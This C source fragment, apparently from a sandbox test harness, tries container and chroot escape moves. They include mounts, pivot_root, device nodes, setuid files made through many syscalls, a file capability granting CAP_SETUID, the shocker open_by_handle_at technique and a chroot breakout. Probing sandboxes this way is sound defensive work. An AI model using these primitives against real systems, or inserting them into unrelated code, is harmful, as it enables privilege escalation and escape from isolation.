/* Part of attacks.c: attacks on files and mounts. */

static long mount_tmpfs(char **argv) {
    return failed(mount("attack", argv[0], "tmpfs", 0, NULL));
}

static long mount_type(char **argv) {
    return failed(mount("attack", argv[0], argv[1], 0, argv[2] ? argv[2] : NULL));
}

static long remount_writable(char **argv) {
    return failed(mount(NULL, argv[0], NULL, MS_REMOUNT | MS_BIND, NULL));
}

static long unmount(char **argv) {
    return failed(umount2(argv[0], MNT_DETACH));
}

static long pivot(char **argv) {
    (void)argv;
    return failed(syscall(SYS_pivot_root, "/", "/"));
}

static long new_mount_api(char **argv) {
    (void)argv;
    return failed(syscall(SYS_fsopen, "tmpfs", 0));
}

static long clone_mount(char **argv) {
    return failed(syscall(SYS_open_tree, AT_FDCWD, argv[0], 1 /* OPEN_TREE_CLONE */));
}

static long make_device(char **argv) {
    return failed(mknod(argv[0], S_IFCHR | 0666, makedev(1, 3)));
}

static long read_file(char **argv) {
    char content[65536];
    int at = open(argv[0], O_RDONLY | O_NONBLOCK);
    if (at < 0)
        return -errno;
    ssize_t got = read(at, content, sizeof content);
    if (got < 0)
        return -errno;
    return got == 0 ? (puts("empty"), 1) : 0;
}

static long write_file(char **argv) {
    int at = open(argv[0], O_WRONLY);
    if (at < 0)
        return -errno;
    return failed(write(at, argv[1], strlen(argv[1])));
}

static long create_file(char **argv) {
    return failed(open(argv[0], O_WRONLY | O_CREAT | O_EXCL, 0644));
}

static long change_mode(char **argv) {
    return failed(chmod(argv[0], (mode_t)strtol(argv[1], NULL, 8)));
}

/* set-id CALL PATH MODE: give a file a mode by one system call, or the descriptor PATH by "descriptor". */
static long set_id(char **argv) {
    const char *name = argv[0], *path = argv[1];
    mode_t mode = (mode_t)strtol(argv[2], NULL, 8);
    if (strcmp(name, "chmod") == 0)
        return failed(chmod(path, mode));
    if (strcmp(name, "fchmod") == 0)
        return failed(fchmod(open(path, O_RDONLY), mode));
    if (strcmp(name, "fchmodat") == 0)
        return failed(syscall(SYS_fchmodat, AT_FDCWD, path, mode));
    if (strcmp(name, "fchmodat2") == 0)
        return failed(syscall(452, AT_FDCWD, path, mode, 0));
    if (strcmp(name, "descriptor") == 0)
        return failed(fchmod(atoi(path), mode));
    return -ENOSYS;
}

static long make_unnamed(const char *path, mode_t mode) {
    char link[64], directory[4096];
    snprintf(directory, sizeof directory, "%s", path);
    *strrchr(directory, '/') = 0;
    int file = (int)syscall(SYS_openat, AT_FDCWD, directory, O_TMPFILE | O_WRONLY, mode);
    if (file < 0)
        return -errno;
    snprintf(link, sizeof link, "/proc/self/fd/%d", file);
    return failed(linkat(AT_FDCWD, link, AT_FDCWD, path, AT_SYMLINK_FOLLOW));
}

/* make-set-id CALL PATH MODE: make a file, or a directory, of a mode by one system call. */
static long make_set_id(char **argv) {
    const char *name = argv[0], *path = argv[1];
    mode_t mode = (mode_t)strtol(argv[2], NULL, 8);
    umask(0);
    unlink(path);
#if defined(__x86_64__)
    if (strcmp(name, "open") == 0)
        return failed(syscall(SYS_open, path, O_CREAT | O_WRONLY, mode));
    if (strcmp(name, "creat") == 0)
        return failed(syscall(SYS_creat, path, mode));
    if (strcmp(name, "mknod") == 0)
        return failed(syscall(SYS_mknod, path, S_IFREG | mode, 0));
    if (strcmp(name, "mkdir") == 0)
        return failed(syscall(SYS_mkdir, path, mode));
#endif
    if (strcmp(name, "openat") == 0)
        return failed(syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_WRONLY, mode));
    if (strcmp(name, "openat-wide") == 0) /* bits that the kernel does not look at */
        return failed(syscall(SYS_openat, AT_FDCWD, path, O_CREAT | O_WRONLY | 1L << 40, mode | 1L << 40));
    if (strcmp(name, "openat2") == 0) {
        unsigned long long how[3] = {O_CREAT | O_WRONLY, mode, 0};
        return failed(syscall(SYS_openat2, AT_FDCWD, path, how, sizeof how));
    }
    if (strcmp(name, "tmpfile") == 0)
        return make_unnamed(path, mode);
    if (strcmp(name, "mknodat") == 0)
        return failed(syscall(SYS_mknodat, AT_FDCWD, path, S_IFREG | mode, 0));
    if (strcmp(name, "mkdirat") == 0)
        return failed(syscall(SYS_mkdirat, AT_FDCWD, path, mode));
    return -ENOSYS;
}

/* set-capability CALL PATH: let a file give CAP_SETUID to whoever executes it. */
static long set_capability(char **argv) {
    uint32_t caps[5] = {0x02000001, 1 << 7, 0, 0, 0}; /* VFS_CAP_REVISION_2, effective */
    const char *name = "security.capability", *path = argv[1];
    struct {
        uint64_t value;
        uint32_t size, flags;
    } arguments = {(uint64_t)(uintptr_t)caps, sizeof caps, 0};
    if (strcmp(argv[0], "setxattr") == 0)
        return failed(syscall(SYS_setxattr, path, name, caps, sizeof caps, 0));
    if (strcmp(argv[0], "lsetxattr") == 0)
        return failed(syscall(SYS_lsetxattr, path, name, caps, sizeof caps, 0));
    if (strcmp(argv[0], "fsetxattr") == 0)
        return failed(syscall(SYS_fsetxattr, open(path, O_RDONLY), name, caps, sizeof caps, 0));
    return failed(syscall(463 /* setxattrat */, AT_FDCWD, path, 0, name, &arguments, sizeof arguments));
}

/* shocker: open the root of the filesystem below a path by its inode number (CVE-2014-3519's way out of Docker). */
static long shocker(char **argv) {
    struct {
        struct file_handle head;
        unsigned char space[128];
    } handle = {.head.handle_bytes = 128};
    int id;
    int at = open(argv[0], O_RDONLY);
    if (at < 0 || name_to_handle_at(AT_FDCWD, argv[0], &handle.head, &id, 0) < 0)
        return -errno;
    return failed(open_by_handle_at(at, &handle.head, O_RDONLY));
}

/* A chroot that a process has left behind: the way out where CAP_SYS_CHROOT is. */
static long break_out(char **argv) {
    mkdir("/tmp/jail", 0755);
    int at = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/jail") < 0)
        return -errno;
    if (fchdir(at) < 0)
        return -errno;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return -errno;
    if (chroot(".") < 0)
        return -errno;
    return access(argv[0], F_OK) < 0 ? -errno : 0;
}
